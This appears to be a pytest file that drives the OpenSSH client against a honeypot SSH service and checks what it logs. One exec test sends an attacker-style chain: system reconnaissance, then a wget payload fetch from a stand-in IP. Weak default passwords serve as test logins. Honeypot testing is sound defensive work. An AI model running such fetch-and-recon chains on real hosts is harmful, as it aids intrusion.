"""The ssh service as the real OpenSSH client sees it (password auth through SSH_ASKPASS)."""

from __future__ import annotations

import asyncio
import os
import re
import shutil
import time
from pathlib import Path
from typing import Any

import pytest

from decnet.services.ssh import netcmds

from .conftest import BANNER, make_persona

SSH = shutil.which("ssh")
ANSI = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]")


@pytest.fixture(autouse=True)
def _need_ssh(monkeypatch: pytest.MonkeyPatch) -> None:
    if SSH is None:
        pytest.skip("the OpenSSH client (ssh) is not installed; apt-get install -y openssh-client")
    monkeypatch.setattr(netcmds, "CONNECT_DELAY_S", 0.05)
    monkeypatch.setattr(netcmds, "DNS_DELAY_S", 0.05)


def ssh_env(tmp_path: Path, password: str) -> dict[str, str]:
    askpass = tmp_path / "askpass.sh"
    askpass.write_text('#!/bin/sh\nprintf "%s\\n" "$DECNET_TEST_PASSWORD"\n')
    askpass.chmod(0o700)
    env = {k: v for k, v in os.environ.items() if k not in {"SSH_AUTH_SOCK", "DISPLAY"}}
    env.update(
        HOME=str(tmp_path),
        SSH_ASKPASS=str(askpass),
        SSH_ASKPASS_REQUIRE="force",
        DECNET_TEST_PASSWORD=password,
        TERM="xterm-256color",
    )
    return env


def ssh_args(port: int, user: str, *extra: str) -> list[str]:
    assert SSH is not None
    return [
        SSH,
        "-F",
        "/dev/null",
        "-p",
        str(port),
        "-o",
        "StrictHostKeyChecking=no",
        "-o",
        "UserKnownHostsFile=/dev/null",
        "-o",
        "PubkeyAuthentication=no",
        "-o",
        "PreferredAuthentications=password",
        "-o",
        "ConnectTimeout=5",
        *extra,
        f"{user}@127.0.0.1",
    ]


async def run_ssh(
    args: list[str], env: dict[str, str], stdin: bytes | None = None, timeout: float = 15
) -> tuple[int, str, str]:
    proc = await asyncio.create_subprocess_exec(
        *args,
        env=env,
        stdin=asyncio.subprocess.PIPE,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
    )
    out, err = await asyncio.wait_for(proc.communicate(stdin), timeout)
    assert proc.returncode is not None
    return proc.returncode, out.decode(errors="replace"), err.decode(errors="replace")


async def test_openssh_sees_the_banner_and_the_auth_methods(serve: Any, tmp_path: Path) -> None:
    async with serve() as (_svc, port, _sink):
        args = ssh_args(port, "root", "-v", "-o", "BatchMode=yes")
        args[args.index("PreferredAuthentications=password")] = "PreferredAuthentications=publickey,password"
        code, _out, err = await run_ssh([*args, "true"], ssh_env(tmp_path, ""))
    assert code == 255
    version = BANNER.removeprefix("SSH-2.0-")
    assert f"Remote protocol version 2.0, remote software version {version}" in err
    assert "root@127.0.0.1: Permission denied (publickey,password)." in err


async def test_openssh_password_login_and_exec(serve: Any, tmp_path: Path) -> None:
    persona = make_persona()
    async with serve(persona=persona) as (_svc, port, sink):
        code, out, err = await run_ssh(
            [*ssh_args(port, "ubuntu"), "uname -a; cat /etc/os-release; wget http://198.51.100.7/x"],
            ssh_env(tmp_path, "ubuntu123"),
        )
        await asyncio.sleep(0.1)
    assert code == 4, err
    assert out.startswith(f"Linux SRV-ATLAS-07 {persona.kernel} #")
    assert f'PRETTY_NAME="{persona.distro_name}"' in out
    assert "Connecting to 198.51.100.7:80... failed: Connection refused." in err
    auth = sink.of("auth")
    assert auth[-1].fields["result"] == "success" and auth[-1].fields["password"] == "ubuntu123"
    assert auth[-1].fields["client_version"].startswith("SSH-2.0-OpenSSH_")
    command = sink.of("command")[0]
    assert command.fields["exec"] == "true" and command.fields["command"].startswith("uname -a;")
    assert sink.of("download")[0].fields["url"] == "http://198.51.100.7/x"


async def test_openssh_interactive_shell(serve: Any, tmp_path: Path) -> None:
    persona = make_persona()
    async with serve(persona=persona) as (_svc, port, sink):
        args = ssh_args(port, "root", "-tt")
        proc = await asyncio.create_subprocess_exec(
            *args,
            env=ssh_env(tmp_path, "toor"),
            stdin=asyncio.subprocess.PIPE,
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.STDOUT,
        )
        assert proc.stdin is not None and proc.stdout is not None
        seen = ""

        async def expect(marker: str) -> str:
            nonlocal seen
            assert proc.stdout is not None
            deadline = time.monotonic() + 8
            while marker not in ANSI.sub("", seen):
                chunk = await asyncio.wait_for(proc.stdout.read(4096), deadline - time.monotonic())
                assert chunk, ANSI.sub("", seen)[-400:]
                seen += chunk.decode(errors="replace")
            text = ANSI.sub("", seen)
            seen = ""
            return text

        prompt = "root@SRV-ATLAS-07:~# "
        assert f"Welcome to {persona.distro_name}" in await expect(prompt)
        for line in ("uname -n", "cd /var/log && pwd", "echo $((1+1)) done", "whoamx\x7fi"):
            proc.stdin.write(line.encode() + b"\r")
            await proc.stdin.drain()
            reply = await expect("# ")
            if line == "uname -n":
                assert "\r\nSRV-ATLAS-07\r\n" in reply
            elif line.startswith("cd"):
                assert "\r\n/var/log\r\n" in reply and "root@SRV-ATLAS-07:/var/log# " in reply
        proc.stdin.write(b"exit\r")
        await proc.stdin.drain()
        tail = await expect("closed.")
        assert "logout" in tail and "Connection to 127.0.0.1 closed." in tail
        assert await asyncio.wait_for(proc.wait(), 5) == 0
        await asyncio.sleep(0.1)
    commands = [c.fields["command"] for c in sink.of("command")]
    assert commands == ["uname -n", "cd /var/log && pwd", "echo $((1+1)) done", "whoami", "exit"]
    assert sink.of("command")[-1].fields["cwd"] == "/var/log"


async def test_openssh_max_auth_tries(serve: Any, tmp_path: Path) -> None:
    async with serve(persona=make_persona(ssh_auth_fail_delay_s=0.05)) as (_svc, port, sink):
        code, _out, err = await run_ssh(
            [*ssh_args(port, "root", "-o", "NumberOfPasswordPrompts=10"), "true"], ssh_env(tmp_path, "wrong")
        )
        await asyncio.sleep(0.1)
    assert code == 255
    assert f"Received disconnect from 127.0.0.1 port {port}:2: Too many authentication failures" in err
    assert err.count("Permission denied, please try again.") == 5
    assert [e.fields["password"] for e in sink.of("auth")] == ["wrong"] * 6
